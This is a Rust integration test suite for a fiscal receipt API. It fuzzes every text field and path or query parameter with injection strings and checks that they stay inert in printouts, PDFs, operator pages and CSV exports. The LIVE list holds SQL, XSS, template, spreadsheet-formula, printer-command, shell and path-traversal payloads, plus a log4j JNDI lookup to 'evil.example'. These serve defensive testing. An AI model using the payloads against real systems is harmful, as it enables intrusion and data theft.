//! Texts that mean something elsewhere, in every text field of every request: the fields are those that the document
//! tells of, so a new one is attacked as soon as it is there. What is sold is followed to the answer, the paper as it comes
//! out of the printer, the PDF, the operator's page and the CSV; what cannot be a text on a receipt is refused.

use std::collections::BTreeSet;
use std::path::Path;

use clock::Clock as _;
use fiscald::api::{Api, schema};
use fiscald::export::{Span, export};
use serde_json::{Value, json};
use vprinter::VirtualPrinter;

use super::pdf;
use crate::support::api::{Answer, PATIENCE, Shop, get, post, sale};
use crate::support::operator::Operator;
use crate::support::printer::{front, printer};

/// Texts that are code to somebody, and nothing but a name to us.
pub(super) const LIVE: [&str; 40] = [
    // SQL.
    "' OR '1'='1' --",
    "'); DROP TABLE receipt;--",
    "\"; DELETE FROM till; --",
    "%' ESCAPE '\\",
    "1 UNION SELECT sealed FROM key",
    // HTML, scripts, styles, templates.
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' autofocus onfocus='alert(1)",
    "</title></textarea><svg/onload=alert(1)>",
    "<style>*{display:none}</style>",
    "javascript:alert(1)//",
    "&lt;b&gt; &amp; &#60;i&#62;",
    "<!-- --> ]]> <![CDATA[ <x/>",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    // Spreadsheets.
    "=cmd|' /C calc'!A1",
    "+1+cmd|' /C calc'!A1",
    "-1+1|x",
    "@SUM(1+1)*cmd",
    "\u{ff1d}1+1",
    "\u{ff20}SUM(1)",
    ",=1+1,\"=1+1\"",
    // PDF.
    ") Tj ET (owned",
    "((((( \\) \\( \\\\ \\050",
    "endstream endobj 1 0 obj <</S/JavaScript>>",
    "%PDF-1.7 %%EOF",
    "<feff0041> /Launch",
    // Printers that read commands in text.
    "^XA^FO50,50^FDowned^FS^XZ",
    "{1B}@ \\x1b@ <ESC>@",
    "\\n\\r\\0 %0a%1b",
    // Shells, paths, logs.
    "$(reboot) `reboot` ;reboot; |id &&id",
    "%PATH% $IFS ~ *",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "ERROR fiscald: level=error msg=owned",
    "%s%n%x {0} ${jndi:ldap://evil.example/a}",
    // Letters.
    "e\u{301}e\u{301} \u{e9}",
    "Z\u{338}a\u{337}l\u{336}g\u{335}o",
    "\u{ff1c}script\u{ff1e}alert(1)",
    "true null NaN undefined 0x1F",
    "__proto__ constructor",
];

/// Texts that no receipt can hold.
const IMPOSSIBLE: [&str; 14] = [
    "a\u{1b}@b",
    "a\0b",
    "a\rb",
    "a\nb",
    "a\tb",
    "a\u{7f}b",
    "a\u{9b}31mb",
    "a\u{85}b",
    "a\u{202e}b",
    "a\u{200b}b",
    "a\u{feff}b",
    "a\u{2028}b",
    "a\u{1f37a}b",
    "a\u{e0041}b",
];

fn document() -> Value {
    serde_json::from_str(&Api::openapi_json()).unwrap()
}

/// The places of all texts in what a schema describes, as JSON pointers.
fn texts(document: &Value, schema: &Value, at: &str, all: &mut BTreeSet<String>) {
    if let Some(name) = schema["$ref"].as_str() {
        let name = name.rsplit('/').next().unwrap();
        return texts(document, &document["components"]["schemas"][name], at, all);
    }
    let is_text = |kind: &Value| kind == "string";
    let kinds = schema["type"].as_array();
    if is_text(&schema["type"]) || kinds.is_some_and(|kinds| kinds.iter().any(is_text)) {
        all.insert(at.to_owned());
    }
    for choice in ["oneOf", "anyOf", "allOf"] {
        for one in schema[choice].as_array().into_iter().flatten() {
            texts(document, one, at, all);
        }
    }
    if schema["items"].is_object() {
        texts(document, &schema["items"], &format!("{at}/0"), all);
    }
    for (name, member) in schema["properties"].as_object().into_iter().flatten() {
        texts(document, member, &format!("{at}/{name}"), all);
    }
}

/// The text fields of a request.
fn fields(document: &Value, path: &str) -> BTreeSet<String> {
    let schema =
        &document["paths"][path]["post"]["requestBody"]["content"]["application/json"]["schema"];
    let mut all = BTreeSet::new();
    texts(document, schema, "", &mut all);
    assert!(!all.is_empty(), "{path} takes texts");
    all
}

/// Puts a text at a place, with what must be around it.
fn put(body: &mut Value, place: &str, text: &str) {
    let mut at = body;
    for part in place[1..].split('/') {
        at = match part.parse::<usize>() {
            Ok(0) => {
                if at.as_array().is_none_or(|all| all.is_empty()) {
                    *at = json!([null]);
                }
                &mut at[0]
            }
            _ => {
                if !at.is_object() {
                    *at = json!({});
                }
                &mut at[part]
            }
        };
    }
    *at = json!(text);
}

/// A good request of a kind.
struct Kind {
    /// Its path in the document, and that with numbers in it.
    paths: [&'static str; 2],
    good: Value,
}

/// A receipt of each kind; the notes are on receipt 1.
fn kinds() -> Vec<Kind> {
    let mut invoice: Value = serde_json::from_str(&sale("X")).unwrap();
    invoice["buyerData"] = json!({
        "buyerRegisterName": "Msasa Traders", "buyerTradeName": "Msasa", "buyerTIN": "2000000000", "vatNumber": "220000000",
        "buyerAddress": {"province": "Harare", "city": "Harare", "street": "First", "houseNo": "1"},
        "buyerContacts": {"phoneNo": "0770000000", "email": "shop@example.com"},
    });
    let mut debit = invoice.clone();
    debit["receiptType"] = json!("DebitNote");
    debit["receiptNotes"] = json!("more");
    debit["creditDebitNote"] = json!({ "deviceID": 101, "receiptGlobalNo": 1, "fiscalDayNo": 1 });
    let receipts = ["/v1/receipts"; 2];
    let credit = [
        "/v1/receipts/{receiptGlobalNo}/credit",
        "/v1/receipts/1/credit",
    ];
    vec![
        Kind {
            paths: receipts,
            good: invoice,
        },
        Kind {
            paths: receipts,
            good: debit,
        },
        Kind {
            paths: credit,
            good: json!({ "invoiceNo": "X", "receiptNotes": "back", "lines": [{ "receiptLineNo": 1, "quantity": 0.01 }] }),
        },
    ]
}

/// Invoices have numbers that differ.
struct Till<'a> {
    shop: &'a Shop,
    asked: usize,
    sold: usize,
}

impl Till<'_> {
    /// Asks for a receipt with this in its fields; each has an invoice number of its own, but for what is put there.
    async fn ask(&mut self, kind: &Kind, places: &BTreeSet<String>, text: &str) -> Answer {
        self.asked += 1;
        let mut body = kind.good.clone();
        body["invoiceNo"] = json!(format!("N-{}", self.asked));
        for place in places {
            // A number makes it differ from the others.
            let text = match place.as_str() {
                "/invoiceNo" => format!("{text} {}", self.asked),
                _ => text.to_owned(),
            };
            put(&mut body, place, &text);
        }
        let answer = self.shop.ask(&post(kind.paths[1], body.to_string())).await;
        assert!(
            answer.status < 500,
            "{text:?} in {places:?}: {}",
            answer.text()
        );
        let shown = answer.text();
        let has_control = shown.chars().any(|c| c.is_control() && c != '\n');
        assert!(!has_control, "{text:?} in {places:?}: {shown:?}");
        self.sold += usize::from(answer.status == 201);
        answer
    }

    /// The fields that take a mild text, whatever it says: the others are numbers, words of a list, addresses.
    async fn free(&mut self, kind: &Kind, all: &BTreeSet<String>) -> BTreeSet<String> {
        let mut free = BTreeSet::new();
        for place in all {
            let one = BTreeSet::from([place.clone()]);
            if self.ask(kind, &one, "O'Brien & Sons").await.status == 201 {
                free.insert(place.clone());
            }
        }
        free
    }

    /// Sells with a text in as many of these fields as take it; which, and the receipt.
    async fn sell(
        &mut self,
        kind: &Kind,
        free: &BTreeSet<String>,
        text: &str,
    ) -> (BTreeSet<String>, schema::Receipt) {
        let mut places = free.clone();
        loop {
            let answer = self.ask(kind, &places, text).await;
            if answer.status == 201 {
                return (places, answer.read(201));
            }
            let problem: schema::Problem = answer.read(422);
            let pointer = problem.pointer.unwrap_or_default();
            assert!(
                places.remove(&pointer),
                "{text:?}: {pointer} {}",
                problem.detail
            );
        }
    }
}

/// A printer, and a shop that prints on it.
async fn printing() -> (VirtualPrinter, Shop) {
    let printer = printer();
    let shop = Shop::printing(&front(printer.name(), "")).await;
    (printer, shop)
}

/// Without what lines are broken at.
fn squeezed(text: &str) -> String {
    text.chars().filter(|c| !c.is_whitespace()).collect()
}

/// A text as it stands in HTML.
fn escaped(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// Follows a receipt to all that shows it; nothing of its texts is live.
async fn followed(shop: &Shop, number: u32, text: &str) {
    let answer = shop.ask(&get(format!("/v1/receipts/{number}"))).await;
    let receipt: Value = answer.read(200);
    let mut all = Vec::new();
    super::pos::strings(&receipt, &mut all);
    assert!(
        all.iter().any(|one| one.contains(text)),
        "{text:?} has changed: {receipt}"
    );
    let pdf = shop.ask(&get(format!("/v1/receipts/{number}/pdf"))).await;
    assert_eq!(pdf.status, 200, "{text:?}");
    pdf::nothing_is_live(&pdf.body, text);
    if text.is_ascii() {
        let shown = squeezed(&pdf::text(&pdf.body));
        assert!(
            shown.contains(&squeezed(text)),
            "{text:?} in the PDF: {shown}"
        );
    }
    let mut operator = Operator::at(shop);
    // Paper has narrow lines.
    let wanted = squeezed(&escaped(text));
    for path in [
        format!("/operator/till/test-101/receipt/{number}"),
        "/operator/receipts?till=test-101".to_owned(),
    ] {
        let page = operator.page(&path).await;
        assert!(
            squeezed(&page).contains(&wanted),
            "{path} does not show {text:?}"
        );
        let is_markup = text.contains(['<', '"']);
        assert!(
            !is_markup || !page.contains(text),
            "{path} takes {text:?} for markup"
        );
    }
}

/// Every field of every kind of receipt: what is code elsewhere is sold and stays the text that it is, down to the paper.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_field_stays_text() {
    let document = document();
    let (printer, shop) = printing().await;
    shop.sell("First").await;
    let mut till = Till {
        shop: &shop,
        asked: 0,
        sold: 1,
    };
    for kind in kinds() {
        let all = fields(&document, kind.paths[0]);
        let free = till.free(&kind, &all).await;
        assert!(free.len() >= 4, "{}: {free:?} of {all:?}", kind.paths[0]);
        assert!(
            free.contains("/invoiceNo") && free.contains("/receiptNotes"),
            "{free:?}"
        );
        for text in LIVE {
            let (places, receipt) = till.sell(&kind, &free, text).await;
            assert!(places.len() >= 3, "{text:?} is sold in {places:?} alone");
            followed(&shop, receipt.receipt_global_no, text).await;
            let sheets = printer.wait_for_sheets(till.sold, PATIENCE);
            assert_eq!(
                sheets.len(),
                till.sold,
                "{text:?}: one paper for each receipt"
            );
            let sheet = sheets.last().unwrap();
            if text.is_ascii() {
                let paper = squeezed(&sheet.text());
                assert!(
                    paper.contains(&squeezed(text)),
                    "{text:?} on paper: {}",
                    sheet.text()
                );
            }
        }
    }
    let (pulses, cleared) = printer.with(|printer| {
        let counts = printer.counts();
        (counts.pulses, counts.cleared)
    });
    assert_eq!((pulses, cleared), ([0, 0], 0), "the printer was commanded");
    assert_eq!(shop.last_number().await as usize, till.sold);
    cells_are_texts(&shop);
}

/// Every field of every kind of receipt: what no receipt can hold is refused at its place, and nothing is numbered. The
/// same request without it is sold.
#[tokio::test]
async fn every_field_refuses_what_cannot_be_printed() {
    let document = document();
    let shop = Shop::open().await;
    shop.sell("First").await;
    let mut till = Till {
        shop: &shop,
        asked: 0,
        sold: 1,
    };
    let mut refused = 0;
    for kind in kinds() {
        let all = fields(&document, kind.paths[0]);
        let free = till.free(&kind, &all).await;
        for place in &all {
            for text in IMPOSSIBLE {
                let one = BTreeSet::from([place.clone()]);
                let answer = till.ask(&kind, &one, text).await;
                let problem: schema::Problem = answer.read(422);
                if free.contains(place) {
                    assert_eq!(problem.code, "text_not_printable", "{text:?} in {place}");
                    assert_eq!(problem.pointer.as_ref(), Some(place), "{text:?}");
                }
                refused += 1;
            }
        }
        let good = till.ask(&kind, &BTreeSet::new(), "").await;
        assert_eq!(good.status, 201, "{}", good.text());
    }
    assert!(refused > 400, "{refused}");
    assert_eq!(shop.last_number().await as usize, till.sold);
}

/// Every text field of every other request of the document: no text is a defect of ours, whoever sends it.
#[tokio::test]
async fn no_field_of_any_request_is_a_defect() {
    let document = document();
    let shop = Shop::open().await;
    shop.sell("First").await;
    let mut asked = 0;
    for (path, operations) in document["paths"].as_object().unwrap() {
        let schema = &operations["post"]["requestBody"]["content"]["application/json"]["schema"];
        let mut all = BTreeSet::new();
        if !schema.is_object() {
            continue;
        }
        texts(&document, schema, "", &mut all);
        let filled = path
            .replace("{receiptGlobalNo}", "1")
            .replace("{capture}", "1")
            .replace("{job}", "1");
        for place in &all {
            for text in LIVE.into_iter().chain(IMPOSSIBLE) {
                let mut body = json!({});
                put(&mut body, place, text);
                let ask = post(filled.clone(), body.to_string()).token("one");
                let answer = shop.ask(&ask).await;
                let is_defect = answer.status >= 500 && answer.status != 503;
                assert!(!is_defect, "{path} {place} {text:?}: {}", answer.text());
                asked += 1;
            }
        }
    }
    assert!(asked > 1_000, "{asked}");
    let page = Operator::at(&shop).page("/operator/queue").await;
    let is_live = LIVE
        .into_iter()
        .find(|text| text.contains('<') && page.contains(text));
    assert_eq!(is_live, None);
    assert_eq!(shop.last_number().await, 1);
}

/// Every parameter of every path: the same.
#[tokio::test]
async fn no_parameter_is_a_defect() {
    let document = document();
    let shop = Shop::open().await;
    shop.sell("First").await;
    let mut asked = 0;
    for (path, operations) in document["paths"].as_object().unwrap() {
        for (method, operation) in operations.as_object().unwrap() {
            // A stream has no end, and what is passed on goes to FDMS.
            let is_passed_on = path.starts_with("/v1/fdms/");
            if path == "/v1/events" || is_passed_on || operation["security"].is_array() {
                continue;
            }
            for parameter in operation["parameters"].as_array().into_iter().flatten() {
                let name = parameter["name"].as_str().unwrap();
                for text in LIVE.into_iter().chain(IMPOSSIBLE) {
                    let value: String = form_urlencoded::byte_serialize(text.as_bytes()).collect();
                    let value = value.replace('+', "%20");
                    let filled = match parameter["in"].as_str() {
                        Some("path") => path.replace(&format!("{{{name}}}"), &value),
                        Some("query") => format!("{path}?{name}={value}"),
                        _ => continue,
                    };
                    let filled = filled.replace(['{', '}'], "");
                    let ask = if method == "get" {
                        get(filled)
                    } else {
                        post(filled, "{}")
                    };
                    let answer = shop.ask(&ask).await;
                    let is_defect = answer.status >= 500 && answer.status != 503;
                    assert!(
                        !is_defect,
                        "{method} {path} {name} {text:?}: {}",
                        answer.text()
                    );
                    asked += 1;
                }
            }
        }
    }
    assert!(asked > 4_000, "{asked}");
    assert_eq!(shop.last_number().await, 1);
}

/// The cells of a line of CSV.
fn cells(line: &str) -> Vec<String> {
    let (mut all, mut cell, mut is_quoted) = (Vec::new(), String::new(), false);
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if is_quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => all.push(std::mem::take(&mut cell)),
            other => cell.push(other),
        }
    }
    assert!(!is_quoted, "{line}");
    all.push(cell);
    all
}

/// Every row of every CSV has as many cells as its head, none of them is a formula, and each text is there.
fn cells_are_texts(shop: &Shop) {
    let room = tempfile::tempdir().unwrap();
    let to = room.path().join("export");
    let reader = shop.ledger.reader();
    let till = reader.tills().unwrap().remove(0);
    let days = reader.days_within(&till, None, None).unwrap().unwrap();
    let span = [Span { till, days }];
    export(reader, &span, &to, shop.clock.wall(), &mut |_| {}).unwrap();
    let mut all = Vec::new();
    for name in ["receipts.csv", "taxes.csv", "days.csv"] {
        all.extend(csv(&to.join("test-101").join(name)));
    }
    for text in LIVE {
        let is_there = all.iter().any(|cell| {
            cell.starts_with(text)
                || cell
                    .strip_prefix('\'')
                    .is_some_and(|cell| cell.starts_with(text))
        });
        assert!(is_there, "{text:?} is in no cell");
    }
}

/// The cells of a file, none of which is live.
fn csv(path: &Path) -> Vec<String> {
    let text = std::fs::read_to_string(path).unwrap();
    let mut rows = text.split_terminator("\r\n").map(cells);
    let head = rows.next().unwrap();
    let mut all = Vec::new();
    for row in rows {
        assert_eq!(row.len(), head.len(), "{row:?}");
        for (cell, column) in row.into_iter().zip(&head) {
            // Nobody chooses a hash, and it is no formula that does anything.
            let is_number = cell.chars().all(|c| c.is_ascii_digit() || "-.".contains(c));
            let is_formula = cell.starts_with([
                '=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
            ]);
            assert!(
                !is_formula || is_number || column == "hash",
                "{column}: {cell}"
            );
            all.push(cell);
        }
    }
    all
}
